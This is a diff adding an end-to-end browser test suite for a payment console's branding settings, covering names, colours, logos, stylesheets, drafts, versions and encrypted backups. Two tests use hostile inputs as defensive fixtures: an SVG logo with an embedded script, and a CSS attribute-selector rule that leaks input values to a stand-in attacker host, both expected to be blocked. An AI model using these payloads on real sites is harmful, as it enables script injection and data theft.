@@ -1,0 +1,166 @@
+import { readFile } from 'node:fs/promises';
+import type { Locator, Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { expectAccessible, expectNoSidewaysScroll, narrow, picture, wide } from './support/browser.ts';
+import { useTwoBrowsers } from './support/two-browsers.ts';
+
+const path = '/mission-control/customer-environment';
+/** The promise of the console for what others change. */
+const soon = { timeout: 2000 };
+const logo = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 60 24"><script>alert(1)</script><rect width="60" height="24" fill="#7a1fa2"/></svg>`;
+
+describe('the customer environment', () => {
+  let page: Page;
+  let other: Page;
+  const complaints = useTwoBrowsers((first, second) => {
+    page = first;
+    other = second;
+  });
+
+  const dialog = (name: string): Locator => page.getByRole('dialog', { name });
+  const brand = (at: Page, name: string): Locator => at.getByRole('banner').getByText(name, { exact: true });
+  const primaryOf = (at: Page) =>
+    at.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue('--mantine-primary-color-filled'));
+
+  async function save(name: string): Promise<void> {
+    await dialog(name).getByRole('button', { name: 'Save' }).press('Enter');
+    await dialog(name).waitFor({ state: 'detached' });
+  }
+
+  it('gives the console another name, by keyboard, and another open console within 2 seconds', async () => {
+    await page.goto(path);
+    await page.getByRole('link', { name: 'Open Business name' }).press('Enter');
+    await dialog('Business name').getByRole('textbox', { name: /Value/ }).fill('Lantern Pay');
+    await page.keyboard.press('Enter');
+    await page.getByText('The variable is saved.').waitFor();
+    await brand(other, 'Lantern Pay').waitFor(soon);
+    await brand(page, 'Lantern Pay').waitFor(soon);
+  });
+
+  it('gives it other colours, but none that cannot be read', async () => {
+    await page.goto(`${path}?edit=GenericColorPalette`);
+    const colors = dialog('Colours');
+    await colors.getByLabel('Brand colour', { exact: true }).first().fill('#7a1fa2');
+    await colors.getByLabel('Secondary text', { exact: true }).first().fill('#cccccc');
+    await colors
+      .getByText(/^Secondary text \(Light\) on Background of panels \(Light\) has a contrast of 1\.60/)
+      .waitFor();
+    await expectAccessible(page, 'colours with a weak pair');
+    await picture(page, 'colours with a weak pair');
+    await colors.getByLabel('Secondary text', { exact: true }).first().fill('#555555');
+    await save('Colours');
+    await expect.poll(() => primaryOf(other), soon).toContain('#7a1fa2');
+    await other.goto(path);
+    await other.getByRole('link', { name: 'Open Business name' }).waitFor();
+    await expectAccessible(other, 'the console in other colours');
+    await other.emulateMedia({ colorScheme: 'dark' });
+    await expectAccessible(other, 'the console in other colours, dark');
+    await other.emulateMedia({ colorScheme: 'light' });
+  });
+
+  it('takes a logo, in which nothing can run', async () => {
+    await page.goto(`${path}?edit=AdminPortalLogoImage`);
+    const file = { name: 'logo.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(logo) };
+    await page.locator('input[type="file"]').setInputFiles(file);
+    await save('Logo of the console');
+    const image = other.getByRole('banner').locator('img');
+    await image.waitFor(soon);
+    const answer = await other.request.get((await image.getAttribute('src')) ?? '');
+    expect(await answer.text()).not.toContain('script');
+    expect(answer.headers()['content-security-policy']).toContain('sandbox');
+  });
+
+  it('refuses a style sheet that could leak, naming line and column', async () => {
+    await page.goto(`${path}?edit=DebtorPortalStyleSheet`);
+    const sheet = dialog('Style sheet of the debtor portal');
+    const editor = sheet.getByRole('textbox', { name: 'Value' });
+    await editor.fill('.pay { border-radius: 21px }\ninput[value^=a] { background: url(//evil.example/a) }');
+    await sheet.getByRole('button', { name: 'Save' }).press('Enter');
+    await sheet.getByText('Line 2, column 31: addresses are not allowed: url(//evil.example/a)').waitFor();
+    await picture(page, 'a refused style sheet');
+    await editor.fill('.pay { border-radius: 21px }');
+    await save('Style sheet of the debtor portal');
+  });
+
+  it('shows a draft to nobody but in the preview, which loads nothing from elsewhere', async () => {
+    const asked: string[] = [];
+    page.on('request', (request) => asked.push(request.url()));
+    await page.goto(`${path}?stage=draft&edit=BusinessName`);
+    await dialog('Business name').getByRole('textbox', { name: /Value/ }).fill('Beacon Pay');
+    await page.keyboard.press('Enter');
+    await page.getByText('The draft changes: Business name.').waitFor();
+    await page.getByRole('button', { name: 'Preview' }).press('Enter');
+    const frame = page.frameLocator('iframe');
+    await frame.getByText('Beacon Pay').waitFor();
+    const pay = frame.getByRole('button', { name: /^Pay/ });
+    expect(await pay.evaluate((button) => getComputedStyle(button).borderRadius)).toBe('21px');
+    expect(await pay.evaluate((button) => getComputedStyle(button).backgroundColor)).toBe('rgb(122, 31, 162)');
+    await picture(page, 'preview of a draft');
+    await dialog('Preview').getByText('Mail').click();
+    await dialog('Preview').getByRole('combobox', { name: 'Language' }).click();
+    await page.getByRole('option', { name: 'Français' }).click();
+    await frame.getByText('Votre prochain paiement').waitFor();
+    await page.keyboard.press('Escape');
+    expect(
+      asked.filter((address) => new URL(address).host !== new URL(page.url()).host && !address.startsWith('blob:')),
+    ).toEqual([]);
+    expect(await brand(other, 'Beacon Pay').count()).toBe(0);
+  });
+
+  it('publishes the draft for everybody, and goes back to an earlier version', async () => {
+    await page.getByRole('button', { name: 'Publish the draft' }).press('Enter');
+    await page
+      .getByRole('dialog', { name: 'Publish 1 changes?' })
+      .getByRole('button', { name: 'Publish the draft' })
+      .press('Enter');
+    await brand(other, 'Beacon Pay').waitFor(soon);
+    await page.getByRole('button', { name: 'Versions' }).press('Enter');
+    await page.getByRole('button', { name: 'Actions for version 5' }).press('Enter');
+    await page.getByRole('menuitem', { name: 'Go back to this version' }).press('Enter');
+    await page.getByRole('button', { name: 'Go back to this version' }).press('Enter');
+    await page.getByText('Version 5 shows again.').waitFor();
+    await brand(other, 'Lantern Pay').waitFor(soon);
+  });
+
+  it('leaves as an encrypted file, and comes back with its key', async () => {
+    await page.goto(path);
+    const download = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'Export' }).press('Enter');
+    const file = await download;
+    expect(file.suggestedFilename()).toBe('backup.txt');
+    const key = page.getByRole('textbox', { name: 'Secret key' });
+    expect(await key.inputValue()).toMatch(/^•+$/);
+    await key.hover();
+    const secret = await key.inputValue();
+    await page.keyboard.press('Escape');
+    const backup = await readFile(await file.path(), 'utf8');
+    await page.getByRole('radio', { name: 'Default' }).focus();
+    await page.keyboard.press('Space');
+    await page.getByRole('button', { name: 'Import' }).press('Enter');
+    const form = dialog('Import a backup');
+    await form.getByRole('textbox', { name: /Secret key/ }).fill(secret);
+    await form.getByRole('textbox', { name: /Encrypted value/ }).fill(`${backup.slice(0, -2)}AA`);
+    await form.getByRole('button', { name: 'Save' }).press('Enter');
+    await form.getByText(/"backup_refused"/).waitFor();
+    await form.getByRole('textbox', { name: /Encrypted value/ }).fill(backup);
+    await form.getByRole('button', { name: 'Save' }).press('Enter');
+    await form.waitFor({ state: 'detached' });
+    // The default is what the sign-in page wears.
+    const look = await page.request.get('/api/customerenvironment/look');
+    expect(((await look.json()) as { businessName: string }).businessName).toBe('Lantern Pay');
+  });
+
+  it('fits a narrow screen', async () => {
+    await page.setViewportSize(narrow);
+    for (const search of ['', '?edit=GenericFont', '?edit=GenericColorPalette', '?preview=published']) {
+      await page.goto(path + search);
+      await page.getByRole('heading').first().waitFor();
+      await expectNoSidewaysScroll(page);
+    }
+    await page.setViewportSize(wide);
+  });
+
+  it('left no complaint in either browser', () => {
+    expect(complaints).toEqual([[], []]);
+  });
+});
